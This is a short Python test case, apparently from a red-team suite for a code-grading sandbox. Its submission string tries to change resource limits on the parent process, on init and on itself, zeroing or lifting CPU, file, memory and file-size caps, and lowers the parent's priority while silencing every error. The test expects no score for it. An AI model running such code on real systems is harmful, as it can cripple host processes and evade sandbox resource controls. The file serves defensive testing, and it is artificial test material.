"""Changes limits, priority and affinity of other processes, and lifts its own.

Deserves nothing; nobody else is hurt.
"""

from tests.redteam.attack import NOTHING, edited, wrong

DESERVES = NOTHING
submission = edited(
    wrong,
    last="""\
import os, resource
for target in (os.getppid(), 1, 0):
    for limit in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
        for value in ((0, 0), (resource.RLIM_INFINITY,) * 2):
            if target or value[0]:
                try:
                    resource.prlimit(target, limit, value)
                except (OSError, ValueError):
                    pass
    try:
        os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    except OSError:
        pass
""",
)
